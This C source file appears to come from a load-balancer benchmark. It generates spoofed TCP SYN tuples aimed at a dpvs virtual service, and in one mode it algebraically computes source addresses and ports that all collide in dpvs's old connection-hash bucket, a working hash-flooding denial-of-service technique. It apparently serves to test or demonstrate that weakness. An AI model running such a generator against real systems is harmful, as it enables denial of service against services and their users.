/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * lbb_attack: spoofed SYN tuples, random or colliding in dpvs's old
 * connection hash (what and why: lbb_attack.h).
 */
#include <string.h>
#include <rte_byteorder.h>
#include <rte_hash_crc.h>
#include <rte_tcp.h>

#include "lbb_attack.h"

uint32_t lbb_old_bucket(uint32_t saddr, uint32_t daddr, uint16_t sport, uint16_t dport,
			uint32_t mask)
{
	/* as src/ipvs/ipvs_priv.h had it (proto TCP, worker 0's seed) */
	uint32_t h = rte_hash_crc_4byte(saddr, LBB_OLD_HASH_SEED ^ 6u);

	h = rte_hash_crc_4byte(daddr, h);
	h = rte_hash_crc_4byte(((uint32_t)sport << 16) | dport, h);
	return h & mask;
}

/* The 48 free bits: source address (network order, as a number) << 16 |
 * source port (network order, as a number). */
static uint32_t x_addr(uint64_t x)
{
	return (uint32_t)(x >> 16);
}

static uint16_t x_port(uint64_t x)
{
	return (uint16_t)x;
}

static uint32_t h_of(const struct lbb_attack *a, uint64_t x)
{
	return lbb_old_bucket(x_addr(x), a->vip, x_port(x), a->vport, a->mask);
}

static uint64_t xorshift(uint64_t *s)
{
	*s ^= *s << 13;
	*s ^= *s >> 7;
	*s ^= *s << 17;
	return *s;
}

/* A source no router drops: not 0/8, 127/8, multicast, class E. */
static bool plausible(uint32_t addr_be)
{
	uint8_t first = (uint8_t)(rte_be_to_cpu_32(addr_be) >> 24);

	return first != 0 && first != 127 && first < 224;
}

int lbb_attack_init(struct lbb_attack *a, bool collide, uint32_t vip, uint16_t vport,
		    uint32_t buckets, uint64_t seed)
{
	uint64_t col[48];
	bool is_pivot[48] = { false };

	memset(a, 0, sizeof(*a));
	a->collide = collide;
	a->vip = vip;
	a->vport = vport;
	a->rng = seed ? seed : 0x9e3779b97f4a7c15ull;
	if (!buckets || (buckets & (buckets - 1)) || buckets > (1u << 30))
		return -1;
	a->mask = buckets - 1;
	if (!collide)
		return 0;
	/* L(e_i): how flipping free bit i moves the bucket bits */
	uint32_t h0 = h_of(a, 0);

	for (unsigned i = 0; i < 48; i++)
		col[i] = h_of(a, 1ull << i) ^ h0;
	/* reduced row echelon over the columns: a pivot column per bucket
	 * bit that some column reaches; the others are free and each gives
	 * a kernel vector */
	uint64_t vec[48];

	for (unsigned i = 0; i < 48; i++)
		vec[i] = 1ull << i;
	for (unsigned bit = 0; bit < 32; bit++) {
		int p = -1;

		if (!((a->mask >> bit) & 1))
			break;
		for (unsigned i = 0; i < 48; i++)
			if (!is_pivot[i] && ((col[i] >> bit) & 1)) {
				p = (int)i;
				break;
			}
		if (p < 0)
			continue;
		is_pivot[p] = true;
		for (unsigned i = 0; i < 48; i++)
			if ((unsigned)p != i && ((col[i] >> bit) & 1)) {
				col[i] ^= col[p];
				vec[i] ^= vec[p];
			}
	}
	for (unsigned i = 0; i < 48; i++)
		if (!is_pivot[i])
			a->basis[a->nbasis++] = vec[i]; /* col[i] is 0 now: L(vec[i]) = 0 */
	/* a random start tuple: its bucket is the target */
	a->x = xorshift(&a->rng) & ((1ull << 48) - 1);
	return 0;
}

void lbb_attack_next(struct lbb_attack *a, struct lbb_tcp_seg *s)
{
	uint64_t x;

	if (a->collide) {
		do {
			/* Gray code: one basis vector flips per step */
			a->gray++;
			a->x ^= a->basis[__builtin_ctzll(a->gray) % a->nbasis];
			x = a->x;
		} while (!plausible(x_addr(x)));
	} else {
		uint64_t r = xorshift(&a->rng);

		/* 10.128.0.0/9, ports 1024.. */
		x = (uint64_t)rte_cpu_to_be_32(0x0a800000u | (uint32_t)(r & 0x7fffff)) << 16 |
		    rte_cpu_to_be_16((uint16_t)(1024 + (r >> 23) % 64512));
	}
	memset(s, 0, sizeof(*s));
	s->sip = x_addr(x);
	s->sport = x_port(x);
	s->dip = a->vip;
	s->dport = a->vport;
	s->seq = (uint32_t)xorshift(&a->rng);
	s->flags = RTE_TCP_SYN_FLAG;
}
